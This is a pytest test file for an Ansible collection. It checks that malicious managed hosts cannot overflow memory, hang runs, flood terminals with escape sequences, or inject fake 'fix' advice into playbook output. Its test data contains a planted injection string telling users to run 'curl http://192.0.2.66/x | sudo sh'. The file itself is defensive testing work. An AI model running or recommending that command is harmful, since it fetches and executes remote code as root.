"""What a host answers in place of Ansible's own modules, in real ansible-playbook runs: bounded and plain."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import bounds

from tests.support.attacker import tally
from tests.support.plays import put_ssh, recap, run_playbook

COMMAND = {"ansible.builtin.command": "true", "register": "read"}
# The destination names the file that comes. A call that asks for a terminal is one of those that begin a job.
SSH = """#!/bin/bash
for word in "$@"; do case $word in kind-*) kind=${word#kind-};; esac; done
if [ -t 0 ]; then exec cat "${0%/*}/begun"; fi
cat >/dev/null; exec cat "${0%/*}/$kind"
"""
ADVICE = "the disk is full. Fix: curl http://192.0.2.66/x | sudo sh"
EVENT = {"__ansible_type": "Event", "msg": ADVICE, "help_text": ADVICE}
ADVISING: dict[str, dict[str, Any]] = {
    "message": {"failed": True, "msg": ADVICE},
    "exception": {"failed": True, "msg": "no", "exception": ADVICE},
    "error": {"failed": True, "msg": "no", "exception": {"__ansible_type": "ErrorSummary", "event": EVENT}},
    "warning": {"warnings": [{"__ansible_type": "WarningSummary", "event": EVENT}]},
    "deprecation": {"deprecations": [{"msg": ADVICE, "version": "9"}]},
    "tag": {
        "stdout": {
            "__ansible_type": "_AnsibleTaggedStr",
            "value": "x",
            "tags": [{"__ansible_type": "Deprecated", "msg": ADVICE, "help_text": ADVICE}],
        }
    },
}


def play(folder: Path, kinds: dict[str, Any], task: dict[str, Any] = COMMAND, *args: str) -> tuple[int, str]:
    """A task on hosts of these kinds; the data of one are its answer."""
    put_ssh(folder, SSH)
    for kind, said in kinds.items():
        (folder / kind).write_text(said if isinstance(said, str) else json.dumps({"changed": False, "rc": 0, **said}))
    tasks = [task, {"ansible.builtin.debug": {"msg": "{{ inventory_hostname }} said {{ read.stdout | default('') }}"}}]
    text = {"hosts": "{{ lookup('gb10.fleet.target') }}", "gather_facts": False, "tasks": tasks}
    hosts = {kind: {"ansible_host": f"kind-{kind}"} for kind in kinds if kind != "begun"}
    return run_playbook(folder, hosts, yaml.safe_dump([text]), *args)


def test_an_answer_has_no_more_values_and_levels_than_one_of_ours(tmp_path: Path) -> None:
    """In 4 MiB are 1.4 million of them. 24 hosts that leave one router took 3.2 GiB, and its failure 99 s to show.

    Deeper ones ended Ansible's callbacks, so `gb10` heard of no failure.
    """
    many = ",".join(["{}"] * (bounds.VALUES_LIMIT + 1))
    deep = "[" * 300 + "]" * 300
    sick = {"many": many, "deep": deep}
    kinds = {kind: f'{{"changed": false, "rc": 0, "stdout": "x", "a": [{said}]}}' for kind, said in sick.items()}
    _, output = play(tmp_path, {**kinds, "fine": {"stdout": "[{," * 1000}})
    taken = sum(f"{kind} said" in output for kind in kinds)
    tally("a host answers a module of Ansible with too many values, or too deep ones", len(kinds), taken)
    assert recap(output) == {"many": "failed", "deep": "failed", "fine": "ok"}, output[-2000:]
    assert "many: its answer has more than" in output and f"deep: {bounds.TOO_DEEP}" in output


def test_nothing_that_ansible_shows_of_it_is_our_advice(tmp_path: Path) -> None:
    """`msg` was plain, and Ansible's `[ERROR]` quotes it as it came."""
    _, output = play(tmp_path, {**ADVISING, "around": f"{json.dumps({'changed': False})}\n{ADVICE}\n"})
    wins = output.count("Fix: ")
    tally("a host advises in our name by a module of Ansible", len(ADVISING) + 1, wins)
    assert not wins and output.count("fix, curl") >= len(ADVISING), output


def test_a_job_is_told_of_in_a_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ansible tells of it at each question, for as long as `docker pull` takes: 4 MiB every ten seconds."""
    monkeypatch.setenv("ANSIBLE_SSH_TRANSFER_METHOD", "piped")
    job = {"ansible_job_id": "j1.1", "started": 1, "finished": 0, "results_file": "/root/.ansible_async/j1.1"}
    loud = {**job, "ansible_job_id": "x\x1b[2J" * 10_000}
    task = {**COMMAND, "async": 3, "poll": 1}
    _, output = play(tmp_path, {"begun": job, "loud": loud, "fine": {**job, "finished": 1, "stdout": "x"}}, task)
    tally("a host fills a screen by the name of a job", 1, int(len(output) > 5_000))
    assert len(output) < 5_000 and "\x1b" not in output and "ASYNC POLL on loud" in output, output[-2000:]
    assert recap(output) == {"loud": "failed", "fine": "ok"} and "fine said x" in output


@pytest.mark.parametrize("module", ["ansible.builtin.command", "gb10.fleet.in_use"])
def test_a_diff_that_takes_for_ever_is_not_made(module: str, tmp_path: Path) -> None:
    """With --diff Ansible makes it in its main process, where no task has an end, and all hosts wait."""
    before, after = ("".join(f"{word}{number % 130}\n" for number in range(3000)) for word in "ab")
    used = {"containers": [], "listeners": [], "cache": {"path": "/x", "models": []}}
    answer = {"changed": True, **used, "diff": {"before": before, "after": after}}
    task = {module: {"cmd": "true"} if module.endswith("command") else {}, "ignore_errors": True}
    _, output = play(tmp_path, {"long": answer}, task, "--diff")
    tally("a host sends a diff that takes for ever", 1, int("+b1\n" in output))
    assert "+b1\n" not in output, output[-2000:]


def test_a_diff_of_a_task_is_shown(tmp_path: Path) -> None:
    diff = [{"before": "a\n", "after": "b\n"}, {"before": {"mode": "0600"}, "after": {"mode": "0644"}}]
    _, output = play(tmp_path, {"fine": {"changed": True, "diff": diff}}, COMMAND, "--diff")
    assert "+b\n" in output and '+    "mode": "0644"' in output, output[-2000:]
